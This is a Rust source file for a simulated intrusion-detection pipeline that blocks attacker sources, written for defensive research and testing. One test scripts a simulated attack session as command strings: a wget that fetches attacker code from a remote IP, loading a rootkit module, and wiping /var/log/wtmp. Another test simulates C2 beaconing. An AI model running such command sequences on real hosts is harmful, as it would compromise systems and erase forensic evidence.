//! The in-line detection pipeline (Fig. 4).
//!
//! [`PipelineSink`] plugs into the simulation engine as an [`ActionSink`]:
//! for every action it runs monitors → symbolization → repeated-scan
//! filter → online detectors, and on a detection executes the response —
//! blocking the attacker source at the BHR and notifying operators. The
//! BHR handle is shared with the border filter, so a block takes effect on
//! the *next* flow from that source: a genuinely closed loop.
//!
//! Since the stage-API redesign the sink is a thin adapter: the stage
//! chain itself lives in [`crate::stage`] (shared with the streaming
//! executors) and is assembled by
//! [`PipelineBuilder`](crate::stage::PipelineBuilder); the sink merely
//! feeds it one action's records at a time under the engine's live
//! [`EventCtx`].

use alertlib::alert::Alert;
use bhr::api::BhrHandle;
use simnet::action::Action;
use simnet::engine::{ActionSink, EventCtx};
use simnet::event::EventQueue;
use telemetry::record::LogRecord;

use crate::report::RunReport;
use crate::stage::adapters::MonitorStage;
use crate::stage::builder::BuiltPipeline;
use crate::stage::executor::InlineCore;

/// The closed-loop pipeline sink: stage counters + the detection loop.
/// Assemble one with [`PipelineBuilder::build_sink`](crate::stage::PipelineBuilder::build_sink).
pub struct PipelineSink {
    monitors: MonitorStage,
    core: InlineCore,
    pub report: RunReport,
    // Reused scratch buffer (alloc-free steady state).
    records_scratch: Vec<LogRecord>,
}

impl PipelineSink {
    pub(crate) fn from_built(monitors: MonitorStage, built: BuiltPipeline) -> PipelineSink {
        PipelineSink {
            monitors,
            core: InlineCore::new(built),
            report: RunReport::default(),
            records_scratch: Vec::with_capacity(8),
        }
    }

    /// The shared BHR handle (also used by the border filter).
    pub fn bhr(&self) -> &BhrHandle {
        self.core.response.bhr()
    }

    /// Post-filter alerts retained for analysis (capped drop-oldest; see
    /// [`AlertRetention`](crate::stage::AlertRetention) and the
    /// `alert_retention` tuning knob).
    pub fn retained_alerts(&self) -> impl Iterator<Item = &Alert> {
        self.core.retention.iter()
    }

    /// Alerts not retained because the retention cap was exceeded.
    pub fn alerts_dropped(&self) -> u64 {
        self.core.retention.dropped()
    }

    /// Alerts not retained because retention is disabled (cap 0).
    pub fn alerts_discarded(&self) -> u64 {
        self.core.retention.discarded()
    }

    /// Finalize counters into the report (router stats are filled by the
    /// caller who owns the engine).
    pub fn finish(&mut self) -> RunReport {
        self.report.records = self.core.stats.records;
        self.report.alerts = self.core.stats.alerts;
        self.report.alerts_filtered = self.core.stats.admitted;
        self.report.detections = self.core.stats.detections;
        self.report
            .notifications
            .append(&mut self.core.notifications);
        self.report.filter = self.core.filter.stats();
        self.report.bhr = self.bhr().stats();
        self.report.blocked_sources = self.core.response.blocked_sources();
        self.report.alerts_dropped = self.core.retention.dropped();
        self.report.alerts_discarded = self.core.retention.discarded();
        self.report.clone()
    }
}

impl ActionSink for PipelineSink {
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
        self.report.actions += 1;
        self.records_scratch.clear();
        self.monitors
            .observe(ctx, action, &mut self.records_scratch);
        // Responses (block install time, TTL anchor, notification time)
        // are stamped with the engine's event time, exactly as the
        // pre-redesign sink did.
        self.core
            .process_records_at(Some(ctx.time), &mut self.records_scratch, |_| {});
        // Mirror the core counters so the public `report` stays live
        // mid-run, as it always was.
        self.report.records = self.core.stats.records;
        self.report.alerts = self.core.stats.alerts;
        self.report.alerts_filtered = self.core.stats.admitted;
        self.report.detections = self.core.stats.detections;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stage::PipelineBuilder;
    use alertlib::symbolize::{Symbolizer, SymbolizerConfig};
    use simnet::engine::Engine;
    use simnet::flow::{Flow, FlowId};
    use simnet::intern::SymScope;
    use simnet::time::SimTime;
    use simnet::topology::NcsaTopologyBuilder;
    use telemetry::hostmon::HostMonitor;
    use telemetry::zeek::{ZeekConfig, ZeekMonitor};

    /// The default stages (toy-model tagger) blocking on detection.
    fn sink() -> PipelineSink {
        PipelineBuilder::new()
            .block_on_detection(true, None)
            .build_sink(vec![
                Box::new(ZeekMonitor::new(ZeekConfig::default(), SymScope::global())),
                Box::new(HostMonitor::new(SymScope::global())),
            ])
    }

    #[test]
    fn scan_flood_is_filtered_not_detected() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..500u64 {
            let t = SimTime::from_secs(i);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.1.1".parse().unwrap(),
                    format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.actions, 500);
        assert!(report.alerts >= 500, "each probe symbolizes");
        assert!(
            report.alerts_filtered < 20,
            "scan flood must collapse: {}",
            report.alerts_filtered
        );
        assert_eq!(
            report.detections, 0,
            "scans alone must not trigger preemption"
        );
        assert_eq!(
            s.retained_alerts().count() as u64 + s.alerts_dropped(),
            report.alerts_filtered,
            "retention accounts for every admitted alert"
        );
    }

    #[test]
    fn detection_blocks_source_at_bhr() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // A malicious host session: process records that symbolize into the
        // S1 chain for one user.
        let host = simnet::topology::HostId(0);
        let cmds = [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod rootkit.ko",
            "echo 0>/var/log/wtmp",
        ];
        for (i, c) in cmds.iter().enumerate() {
            engine.schedule(
                SimTime::from_secs(10 + i as u64 * 60),
                Action::Exec(simnet::action::ExecAction {
                    host,
                    user: "eve".into(),
                    pid: 100 + i as u32,
                    ppid: 1,
                    exe: "/bin/sh".into(),
                    cmdline: c.to_string(),
                }),
            );
        }
        let mut s = sink();
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert_eq!(report.detections, 1, "S1 chain must be detected once");
        assert_eq!(report.notifications.len(), 1);
        let n = &report.notifications[0];
        assert!(n.message().to_string().contains("preemption"));
        // Host-only alerts carry no src address, so no block is installed —
        // but the notification still fires.
        assert_eq!(report.blocked_sources, 0);
    }

    #[test]
    fn network_detection_installs_block() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        // Outbound C2-ish: configure symbolizer with a C2 feed.
        let mut cfg = SymbolizerConfig::default();
        cfg.c2_addresses.insert("194.145.22.33".parse().unwrap());
        let mut s = PipelineBuilder::new()
            .symbolizer(Symbolizer::new(cfg))
            .block_on_detection(true, None)
            .build_sink(vec![Box::new(ZeekMonitor::new(
                ZeekConfig::default(),
                SymScope::global(),
            ))]);
        // Repeated C2 beacons from one internal source push its entity
        // posterior over the threshold.
        for i in 0..6u64 {
            let t = SimTime::from_secs(i * 30);
            engine.schedule(
                t,
                Action::Flow(Flow::established(
                    FlowId(i),
                    t,
                    simnet::time::SimDuration::from_secs(2),
                    "141.142.77.10".parse().unwrap(),
                    40_000,
                    "194.145.22.33".parse().unwrap(),
                    443,
                    2_000,
                    500,
                )),
            );
        }
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.detections >= 1, "beaconing must be detected");
        assert_eq!(report.blocked_sources, 1);
        assert!(s
            .bhr()
            .is_blocked(SimTime::from_secs(600), "141.142.77.10".parse().unwrap()));
    }

    #[test]
    fn retention_cap_bounds_sink_memory() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut engine = Engine::new(topo, SimTime::EPOCH);
        for i in 0..50u64 {
            let t = SimTime::from_secs(i * 3600);
            // Distinct sources so the scan filter admits each probe.
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    format!("103.{}.1.1", 1 + i).parse().unwrap(),
                    "141.142.2.7".parse().unwrap(),
                    22,
                )),
            );
        }
        let mut s = PipelineBuilder::new()
            .alert_retention(5)
            .build_sink(vec![Box::new(ZeekMonitor::new(
                ZeekConfig::default(),
                SymScope::global(),
            ))]);
        engine.run(&mut [&mut s]);
        let report = s.finish();
        assert!(report.alerts_filtered >= 50);
        assert_eq!(s.retained_alerts().count(), 5, "cap enforced");
        assert_eq!(report.alerts_dropped, report.alerts_filtered - 5);
    }
}
